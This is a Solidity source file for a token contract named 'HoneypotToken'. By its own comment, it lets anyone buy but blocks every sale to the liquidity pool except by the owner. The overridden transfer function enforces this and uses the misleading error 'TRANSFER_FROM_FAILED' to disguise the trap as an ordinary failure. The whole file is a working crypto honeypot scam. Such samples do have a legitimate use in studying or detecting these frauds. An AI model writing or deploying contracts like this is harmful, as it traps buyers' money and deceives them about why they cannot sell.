// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.20;

import "./PairedErc20.sol";

/// Anyone may buy; a sale to the pool reverts for everyone but the owner.
contract HoneypotToken is PairedErc20 {
    constructor(
        string memory name_,
        string memory symbol_,
        uint256 supply,
        address holder,
        address factory,
        address weth
    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pair || from == owner, "TRANSFER_FROM_FAILED");
        _move(from, to, value);
    }
}
